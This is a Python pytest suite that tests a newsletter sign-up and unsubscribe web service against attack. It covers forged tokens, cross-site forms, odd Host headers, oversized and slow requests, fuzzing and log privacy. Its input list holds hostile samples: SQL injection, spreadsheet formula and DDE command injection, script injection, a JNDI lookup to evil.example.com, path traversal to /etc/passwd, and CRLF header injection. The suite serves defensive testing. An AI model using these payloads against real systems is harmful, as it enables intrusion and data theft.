"""The pages for readers under attack: forged links, slow and endless requests, odd hosts, and anything at all."""

from __future__ import annotations

import contextlib
import http.client
import io
import itertools
import logging
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode, urljoin, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from office import CONFIG, NOW, OURS, READER, SECRET, Office, ask, behind_a_proxy, field, running

from bulletin import flow
from bulletin.model import SubscriberState
from bulletin.stores import database
from bulletin.subscribers.consent import Cause
from bulletin.subscribers.store import Subscribers
from bulletin.subscribers.tokens import PREFERENCES, UNSUBSCRIBE, make_form_token, make_token
from bulletin.tables import metadata
from bulletin.web import forms, serving

MARKED = "marked.person@force.example.org"
NASTY = (
    "'; DROP TABLE subscriber; --",
    '=HYPERLINK("https://evil.example.com")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "{{ config.sender }}{% raw %}",
    "${jndi:ldap://evil.example.com}",
    "../../../etc/passwd",
    "%s%n%x",
)


@pytest.fixture(scope="module")
def open_office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    with running(tmp_path_factory.mktemp("office"), behind_a_proxy()) as office:
        yield office


@pytest.fixture
def office(open_office: Office) -> Office:
    open_office.subscribers.resubscribe(open_office.reader.id, now=NOW, how="test")
    return open_office


@pytest.fixture(scope="module")
def links(open_office: Office) -> dict[str, str]:
    """A link of each kind that works, and the version of the form's words."""
    wording = field(ask("GET", open_office.at("sign-up")).text, "wording")
    return every_link(open_office) | {"wording": wording}


clients = (f"198.51.{number // 250}.{number % 250 + 1}" for number in itertools.count())
"""A new client each time, so that no limit is in the way."""


def every_link(office: Office) -> dict[str, str]:
    """Every kind of page, with links that work; what mails hold and what the pages themselves lead to."""
    new = f"new{next(clients)}@example.com"
    office.sign_up(new, client=next(clients))
    ask("POST", office.preferences, data={"choice": "data"}, headers={**OURS, "X-Forwarded-For": next(clients)})
    office.now += flow.readers.dt.timedelta(days=2)  # three mails a day are too few here
    office.answer()
    data = office.links_in(office.letters(READER)[-1])[1]
    moved = {"choice": "address", "email": f"moved{next(clients)}@example.com"}
    ask("POST", data, data=moved, headers={**OURS, "X-Forwarded-For": next(clients)})
    office.answer()
    return {
        "sign-up": office.at("sign-up"),
        "links": office.at("links"),
        "confirm": office.links_in(office.letters(new)[0])[0],
        "unsubscribe": office.unsubscribe,
        "preferences": office.preferences,
        "data": data,
        "held.txt": f"{data}/held.txt",
        "held.json": f"{data}/held.json",
        "address": office.links_in(office.letters(moved["email"])[0])[0],
        "style": office.at("style.css"),
        "health": office.at("health"),
    }


def everything(office: Office) -> dict[str, list[object]]:
    """All rows of all tables."""
    with office.engine.connect() as connection:
        return {
            table.name: [tuple(row) for row in connection.execute(table.select())] for table in metadata.sorted_tables
        }


# ---------------------------------------------------------------- links


def test_z01_a_scanner_that_opens_every_link_of_every_page_and_mail_changes_nothing(office: Office) -> None:
    """L-08, Z-01: GET, HEAD and OPTIONS, twice, and every link on the pages."""
    todo = list(every_link(office).values())
    before, seen = everything(office), set[str]()
    while todo:
        url = todo.pop()
        if url in seen:
            continue
        seen.add(url)
        answers = [ask(method, url) for method in ("HEAD", "GET", "OPTIONS", "GET")]
        assert [answer.status_code for answer in answers] == [200, 200, 405, 200], url
        assert not answers[0].content
        for link in re.findall(r'href="([^"#]*)"', answers[1].text):
            whole = urljoin(url, link)
            if whole.startswith(CONFIG.service_url):
                whole = office.local(whole)
            if whole.startswith(office.at("")) and whole != office.at(""):
                todo.append(whole)
    assert len(seen) > 15
    assert everything(office) == before


def test_z08_a_token_serves_one_purpose_and_none_when_anything_of_it_is_changed(office: Office) -> None:
    """Forged, truncated, swapped: one page for all, and no hint."""
    links = every_link(office)
    kinds = ("confirm", "unsubscribe", "preferences", "data", "address")
    tokens = {kind: links[kind].rpartition("/")[2] for kind in kinds}
    before, pages = everything(office), set[str]()
    for kind, other in itertools.product(kinds, kinds):
        good = tokens[other]
        forged = [good[:-1], f"{good}a", good.upper() if good.islower() else good.lower(), f"x{good}", good[::-1]]
        for token in [*forged, *([good] if kind != other else []), "", "%00", "%0d%0aSet-Cookie:a=b", "ŵ", "a" * 2000]:
            for method in ("GET", "POST"):
                answer = ask(method, office.at(f"{kind}/{token}"), headers=OURS)
                assert answer.status_code == 404, (kind, token)
                assert "set-cookie" not in answer.headers
                pages.add(re.sub(r'value="[^"]*"', "", answer.text))
    assert len(pages) == 1
    assert everything(office) == before
    forged_with_another_secret = make_token(SECRET[::-1], PREFERENCES, office.reader.id)
    assert ask("GET", office.at(f"preferences/{forged_with_another_secret}")).status_code == 404


def test_z09_a_link_that_works_once_does_nothing_when_it_is_used_again(office: Office) -> None:
    links = every_link(office)
    assert ask("POST", links["confirm"], headers=OURS).status_code == 200
    assert ask("POST", links["address"], headers=OURS).status_code == 200
    before = everything(office)
    for kind in ("confirm", "address"):
        assert ask("POST", links[kind], headers=OURS).status_code == 200
    assert everything(office) == before
    moved = office.subscribers.get(office.reader.id)
    assert moved is not None
    with office.engine.begin() as connection:  # back to where the other tests know them
        office.subscribers.readdress_within(connection, moved.id, READER)


@pytest.mark.parametrize(
    ("headers", "token", "status"),
    [
        ({}, "", 403),
        ({}, "good", 200),
        ({"Origin": "null"}, "good", 200),
        ({"Origin": "https://evil.example.com"}, "old", 403),
        ({}, "of another page", 403),
        ({}, "made up", 403),
        ({"Sec-Fetch-Site": "cross-site"}, "good", 403),
        ({"Sec-Fetch-Site": "same-site"}, "good", 403),
        ({"Sec-Fetch-Site": "same-origin"}, "", 200),
    ],
)
def test_z02_a_form_is_ours_by_the_browsers_word_or_by_its_token(
    office: Office, headers: dict[str, str], token: str, status: int
) -> None:
    """Z-02: also for browsers that say nothing of where a form comes from."""
    path, now = "/harbour/links", office.now
    tokens = {
        "good": make_form_token(SECRET, path, now),
        "old": make_form_token(SECRET, path, now - flow.readers.dt.timedelta(hours=13)),
        "of another page": make_form_token(SECRET, "/harbour/sign-up", now),
        "made up": "1717234200_" + "a" * 52,
    }
    sent = {"email": "nobody@example.com", "form": tokens.get(token, "")}
    answer = ask("POST", office.at("links"), data=sent, headers={**headers, "X-Forwarded-For": next(clients)})
    assert answer.status_code == status


# ---------------------------------------------------------------- what is typed


def test_sql_formulas_and_markup_in_every_field_are_words_and_nothing_else(office: Office) -> None:
    links = every_link(office)
    for nasty in NASTY:
        answer = office.sign_up(nasty, client=next(clients), name=nasty, language=nasty, list=[nasty])
        assert answer.status_code == 400
        assert "<script>" not in answer.text
        fields = {"choice": "correct", "name": nasty, "organisation": nasty, "role": nasty}
        answer = ask("POST", links["data"], data=fields, headers=OURS)
        assert answer.status_code == 200
        assert "<script>" not in answer.text
        person = office.subscribers.get(office.reader.id)
        assert person is not None
        assert (person.name, person.organisation, person.role) == (nasty, nasty, nasty)
        choice = {"choice": "save", "list": nasty, "topic": nasty, "language": nasty, "pause": ""}
        assert ask("POST", office.preferences, data=choice, headers=OURS).status_code == 200
        assert ask("POST", office.at(f"preferences/{urlencode({'a': nasty})}"), headers=OURS).status_code == 404
        assert ask("GET", office.at(f"sign-up?{urlencode({'lang': nasty})}")).status_code == 200
    exported = office.folder / "export.csv"
    flow.export_subscribers(office.home, exported)
    assert "\n'=" not in exported.read_text("utf-8-sig")
    assert not re.search(r'(^|,)"?[=@]', exported.read_text("utf-8-sig"), re.MULTILINE), "Z-22"
    office.desk.correct(office.reader.id, {"name": "Reader One", "organisation": "", "role": ""})


HEADER = st.text(st.characters(codec="latin-1", exclude_categories=["Cc"]), max_size=40)
PATHS = ("sign-up", "links", "confirm/{}", "unsubscribe/{}", "preferences/{}", "data/{}", "data/{}/held.json", "{}")
FIELDS = ("email", "name", "consent", "wording", "list", "topic", "language", "pause", "choice", "form", "from", "lang")
KNOWN = (
    *(
        "yes",
        "save",
        "leave",
        "stay",
        "data",
        "correct",
        "address",
        "cy",
        "2024-07-01",
        "9999-99-99",
        "events",
        "tides",
    ),
    *("fuzzed@example.com", READER, "WORDING"),
)


REQUESTS = st.fixed_dictionaries(
    {
        "method": st.sampled_from(["GET", "POST", "POST", "HEAD", "PUT", "TRACE"]),
        "path": st.sampled_from(PATHS),
        "token": st.one_of(st.just("good"), st.just("good"), st.text(max_size=30)),
        "fields": st.one_of(
            st.lists(st.tuples(st.sampled_from(FIELDS), st.one_of(st.sampled_from(KNOWN), st.text(max_size=60)))),
            st.tuples(st.sampled_from(KNOWN), st.text(max_size=60)).map(
                lambda few: [("email", few[0]), ("name", few[1]), ("consent", "yes"), ("wording", "WORDING")]
            ),
        ),
        "raw": st.one_of(st.none(), st.none(), st.none(), st.binary(max_size=200)),
        "headers": st.dictionaries(
            st.sampled_from(["Origin", "Accept-Language", "X-Forwarded-For", "Content-Type", "Cookie", "Referer"]),
            HEADER,
        ),
    }
)


@settings(max_examples=250, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(request=REQUESTS)
def test_whatever_is_sent_nothing_breaks(office: Office, links: dict[str, str], request: dict[str, Any]) -> None:
    """No answer of the 500s to anything, with links that work and such that do not; and what was asked is answered."""
    good = links.get(request["path"].partition("/")[0], "x").rpartition("/")[2]
    token = good if request["token"] == "good" else request["token"]
    url = "/harbour/" + request["path"].format(quote(token, errors="surrogatepass"))
    body = request["raw"]
    if body is None:
        body = urlencode(request["fields"], errors="surrogatepass").replace("WORDING", links["wording"]).encode()
    method, headers = request["method"], request["headers"]
    where = urlsplit(office.address)
    connection = http.client.HTTPConnection(where.hostname or "", where.port or 0, timeout=20)
    sent = {"Content-Type": "application/x-www-form-urlencoded", **OURS, **headers}
    try:
        connection.request(method, url, body if method != "TRACE" else None, sent)
        answer = connection.getresponse()
        content = answer.read()
    finally:
        connection.close()
    assert answer.status < 500, (url, body, content)
    assert answer.getheader("content-security-policy")
    assert answer.getheader("set-cookie") is None
    assert b"Traceback" not in content
    office.desk.answer(office.now)


# ---------------------------------------------------------------- requests that are too much


def test_z06_odd_hosts_are_refused_and_never_reach_a_page(office: Office) -> None:
    for host in (
        "evil.example.com",
        "news.example.org.evil.example.com",
        "",
        "[::1",
        "a" * 300,
        "news.example.org@evil",
    ):
        answer = raw_answer(office, f"GET /harbour/sign-up HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 400"), host
    doubled = "Host: news.example.org\r\nHost: evil.example.com\r\nX-Forwarded-Host: evil.example.com\r\n"
    answer = raw_answer(office, f"GET /harbour/sign-up HTTP/1.1\r\n{doubled}Connection: close\r\n\r\n")
    assert b"evil" not in answer
    absolute = (
        "GET https://evil.example.com/harbour/sign-up HTTP/1.1\r\nHost: news.example.org\r\nConnection: close\r\n\r\n"
    )
    assert b"evil" not in raw_answer(office, absolute)
    assert b"HTTP/1.1 400" in raw_answer(office, "GET /harbour/sign-up HTTP/1.0\r\n\r\n"), "no host at all"


def raw_answer(office: Office, request: str | bytes, pause: float = 0.0) -> bytes:
    """What comes back until the other side hangs up."""
    where = urlsplit(office.address)
    with socket.create_connection((where.hostname or "", where.port or 0), timeout=30) as connection:
        connection.sendall(request if isinstance(request, bytes) else request.encode("latin-1"))
        time.sleep(pause)
        found = b""
        with contextlib.suppress(ConnectionResetError):
            while piece := connection.recv(65536):
                found += piece
        return found


def test_z13_ten_megabytes_are_refused_early_on_every_page(office: Office) -> None:
    for path in (
        urlsplit(office.unsubscribe).path,
        "/harbour/sign-up",
        "/harbour/links",
        urlsplit(office.preferences).path,
    ):
        head = f"POST {path} HTTP/1.1\r\nHost: news.example.org\r\nSec-Fetch-Site: same-origin\r\n"
        head += (
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 10000000\r\nConnection: close\r\n\r\n"
        )
        answer = raw_answer(office, head.encode() + b"email=" + b"a" * 70_000)
        assert answer.startswith(b"HTTP/1.1 413"), "without waiting for the rest"
    assert office.gets_mail
    many = "&".join(f"a{number}=b" for number in range(5000))
    assert ask("POST", office.at("links"), data=many, headers={**OURS, **_FORM}).status_code == 400


_FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def test_z13_headers_without_end_are_cut_off(office: Office) -> None:
    endless = b"GET /harbour/sign-up HTTP/1.1\r\nHost: news.example.org\r\n" + b"X-Filler: " + b"a" * 200_000
    assert b"200 OK" not in raw_answer(office, endless)
    assert ask("GET", office.at("health")).json() == {"status": "ok"}


def test_z13_slow_clients_are_not_waited_for_and_keep_nobody_else_waiting(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Headers that trickle, bodies that never end: others are served meanwhile, and it is over after the time."""
    monkeypatch.setattr(serving, "HEADERS_WITHIN_S", 0.6)
    monkeypatch.setattr(serving, "WHOLE_WITHIN_S", 0.6)
    with running(tmp_path) as office, contextlib.ExitStack() as stack:
        where = urlsplit(office.address)
        beginnings = (b"", b"GET /harbour/sign-up HT", b"POST /harbour/links HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        whole = b"POST /harbour/links HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 50\r\n\r\nemail="
        slow = [
            stack.enter_context(socket.create_connection((where.hostname or "", where.port or 0), timeout=30))
            for _ in range(60)
        ]
        for number, connection in enumerate(slow):
            connection.sendall((*beginnings, whole)[number % 4])
        assert ask("GET", office.at("health")).status_code == 200
        for connection in slow:
            assert connection.recv(100) == b"", "hung up on"
        assert ask("GET", office.at("health")).status_code == 200


def test_z13_a_form_that_is_too_slow_is_told_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(forms, "SLOWEST_FORM", 0.2)
    with running(tmp_path) as office:
        path = urlsplit(office.unsubscribe).path
        head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 50\r\nConnection: close\r\n\r\nList-"
        assert raw_answer(office, head).startswith(b"HTTP/1.1 408")
        assert office.gets_mail


# ---------------------------------------------------------------- nothing is told


def test_z20_a_marked_address_is_in_no_log_no_address_of_a_page_and_no_output(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    """Z-20: through all pages and mails, with a fault inside and a provider that refuses it by name."""
    caplog.set_level(logging.DEBUG)
    caplog.set_level(logging.WARNING, "urllib3")  # the browser's side, which may know
    handler = logging.StreamHandler(stream := io.StringIO())
    logging.getLogger().addHandler(handler)
    try:
        with running(tmp_path, behind_a_proxy()) as office:
            office.sign_up(MARKED, name="Marked Person", client="203.0.113.77")
            office.answer()
            confirm = office.links_in(office.letters(MARKED)[0])[0]
            asked = [confirm, ask("POST", confirm, headers=OURS).url]
            links = every_link_of(office, MARKED)
            for url in links:
                ask("GET", url)
                ask("POST", url, data={"choice": "correct", "name": MARKED}, headers=OURS)
            person = office.person(MARKED)
            mine = office.at(f"unsubscribe/{make_token(SECRET, UNSUBSCRIBE, person.id)}")
            office.subscribers.report(MARKED, Cause.COMPLAINT, now=NOW, how="test")
            ask("POST", mine)
            with office.engine.begin() as connection:
                connection.exec_driver_sql("ALTER TABLE membership RENAME TO gone")
            broken = ask("POST", links[0], data={"choice": "save"}, headers=OURS)
            assert broken.status_code == 500
            asked += links
    finally:
        logging.getLogger().removeHandler(handler)
    out = capfd.readouterr()
    reference = re.search(r"<strong>(\w+)</strong>", broken.text)
    assert reference
    assert reference[1] in stream.getvalue(), "who looks for the number finds it"
    told = stream.getvalue() + caplog.text + out.out + out.err + " ".join(asked)
    for secret in (MARKED, "marked.person", "Marked Person", "203.0.113.77", confirm.rpartition("/")[2]):
        assert secret not in told.replace(confirm, ""), secret


def every_link_of(office: Office, address: str) -> list[str]:
    """The links mailed to a reader who asks for them."""
    page = ask("GET", office.at("links")).text
    ask("POST", office.at("links"), data={"email": address, "form": field(page, "form")}, headers=OURS)
    office.answer()
    return office.links_in(office.letters(address)[-1])


# ---------------------------------------------------------------- kill -9


def test_everybody_who_was_answered_has_left_also_when_the_server_is_killed(tmp_path: Path, database_url: str) -> None:
    """L-11: many leave at once, share their writes to the disk, and are answered only after theirs."""
    people = [f"reader{number}@example.org" for number in range(600)]
    with database(database_url) as engine:
        readers = Subscribers(engine, SECRET)
        readers.add(((address, "", "") for address in people), now=NOW, how="test")
        ids = [person.id for person in readers.all()]
    write_publication(tmp_path)
    environment = {**os.environ, "BULLETIN_SECRET": SECRET.decode(), "BULLETIN_DATABASE_URL": database_url}
    server = subprocess.Popen(
        [sys.executable, "-m", "bulletin", "serve", "--port", "0"],
        cwd=tmp_path,
        env=environment,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        assert server.stdout is not None
        ready = next(line for line in server.stdout if "are served at" in line)
        port = int(ready.partition("127.0.0.1:")[2].partition("/")[0])
        answered = leave_until_killed(server, port, ids)
    finally:
        server.kill()
        server.communicate()
    assert 20 <= len(answered) < len(ids), "it was killed in the middle"
    with database(database_url) as engine:
        readers = Subscribers(engine, SECRET)
        states = {person.id: person.state for person in readers.all()}
    assert {states[subscriber] for subscriber in answered} == {SubscriberState.UNSUBSCRIBED}


def write_publication(folder: Path) -> None:
    (folder / "bulletin.toml").write_text(
        'name = "Harbour Bulletin"\n[organisation]\nname = "Harbour"\npostal_address = "1 Quay"\n'
        '[sender]\nname = "Harbour"\naddress = "bulletin@example.org"\n'
        '[web]\narchive_url = "https://news.example.org/"\n',
        "utf-8",
    )


def leave_until_killed(server: subprocess.Popen[str], port: int, ids: list[str]) -> list[str]:
    """Send everybody's one click over some connections at once; kill the server half way; who was answered 200."""
    answered: list[str] = []
    lock = threading.Lock()

    def leave(some: list[str]) -> None:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        with contextlib.closing(connection), contextlib.suppress(OSError, http.client.HTTPException):
            for subscriber in some:
                path = f"/unsubscribe/{make_token(SECRET, UNSUBSCRIBE, subscriber)}"
                connection.request("POST", path, "List-Unsubscribe=One-Click", {"Host": "news.example.org", **_FORM})
                answer = connection.getresponse()
                answer.read()
                assert answer.status == 200
                with lock:
                    answered.append(subscriber)
                    if len(answered) == 200:
                        os.kill(server.pid, signal.SIGKILL)

    threads = [threading.Thread(target=leave, args=(ids[number::12],)) for number in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return answered
